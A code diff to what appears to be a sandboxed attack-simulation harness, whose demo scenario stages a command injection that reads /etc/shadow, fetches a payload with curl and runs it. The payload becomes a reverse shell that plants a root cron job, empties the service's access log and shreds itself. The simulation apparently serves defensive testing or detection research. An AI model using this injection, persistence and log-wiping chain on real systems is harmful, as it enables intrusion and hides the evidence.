@@ -297,7 +297,7 @@ def ssh_in_netns(port: int) -> str:
     listener = (f"import socket; s=socket.create_server(('{address}', {port})); print(flush=True); "
                 "c, _ = s.accept(); c.close()")
     return (
-        f"set -e; ip link set lo up; ip addr add {address}/32 dev lo; "
+        f"set -e; /usr/sbin/ip link set lo up; /usr/sbin/ip addr add {address}/32 dev lo; "
         f"{PYTHON} -I -c \"{listener}\" | (read ready; "
         f"ssh -p {port} -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
         f"-o UserKnownHostsFile=/dev/null -F /dev/null probe@{address} true || true)"
@@ -448,7 +448,8 @@ def demo(sb: Sandbox) -> Iterator[None]:
     an HTTP server with curl into /tmp, makes it executable and runs it. The
     payload connects back to the attacker, dups the socket onto stdin and
     stdout and becomes an interactive shell; through it the attacker writes a
-    cron job under /etc/cron.d and shreds the payload. Around the incident,
+    cron job under /etc/cron.d, empties the service's access_log and shreds
+    the payload. Around the incident,
     health checks hit the service and a host job runs routine commands.
     """
     cron_file = Path("/etc/cron.d/dbus-update")
@@ -461,12 +462,14 @@ def demo(sb: Sandbox) -> Iterator[None]:
     shutil.copy2(PAYLOADS / "demo_payload.py", drop_dir / "dbus-helper")
     payload_port = sb.http_server(drop_dir)
     port_file = sb.path("run", "httpd.port")
-    service = container.spawn([httpd, "-I", str(PAYLOADS / "demo_service.py"), str(port_file)])
+    access_log = sb.path("logs", "access_log")
+    service = container.spawn([httpd, "-I", str(PAYLOADS / "demo_service.py"), str(port_file), str(access_log)])
     sb.on_cleanup(service.kill)
     service_port = wait_for_port(port_file, service)
     attacker = ReverseShellListener(
         commands=[
             f"echo '*/5 * * * * root {{payload}} 127.0.0.1 {{port}}' > {cron_file}",
+            ": > {access_log}",
             "shred -u {payload}",
             "exit",
         ],
@@ -476,7 +479,7 @@ def demo(sb: Sandbox) -> Iterator[None]:
     yield
 
     routine = subprocess.Popen(["sh", "-c", "for i in 1 2 3 4 5; do uptime; ls /var/log; sleep 0.2; done"],
-                               stdout=subprocess.DEVNULL, env=sb.env())
+                               stdout=subprocess.DEVNULL)
     for _ in range(3):
         http_get(f"{service_url}/health")
     http_get(f"{service_url}/status")
@@ -484,7 +487,7 @@ def demo(sb: Sandbox) -> Iterator[None]:
     sb.remove_later(Path(staging) / "dbus-helper")
     sb.on_cleanup(lambda: shutil.rmtree(staging, ignore_errors=True))
     payload = f"{staging}/dbus-helper"
-    attacker.render(payload=payload, port=attacker.port)
+    attacker.render(payload=payload, port=attacker.port, access_log=access_log)
     injected = (f"127.0.0.1; cat /etc/shadow > /dev/null; mkdir -p {staging}; "
                 f"curl -s -o {payload} http://127.0.0.1:{payload_port}/dbus-helper; "
                 f"chmod +x {payload}; {payload} 127.0.0.1 {attacker.port}")
@@ -494,8 +497,8 @@ def demo(sb: Sandbox) -> Iterator[None]:
         http_get(f"{service_url}/health")
     if routine.wait(timeout=30) != 0:
         raise ScenarioError("the routine host job failed")
-    if not cron_file.exists() or Path(payload).exists():
-        raise ScenarioError("the attack did not run to the end (cron file missing or payload left)")
+    if not cron_file.exists() or Path(payload).exists() or "lookup" in access_log.read_text():
+        raise ScenarioError("the attack did not run to the end (no cron file, payload or log left)")
 
 
 def wait_for_port(port_file: Path, process: subprocess.Popen) -> int:
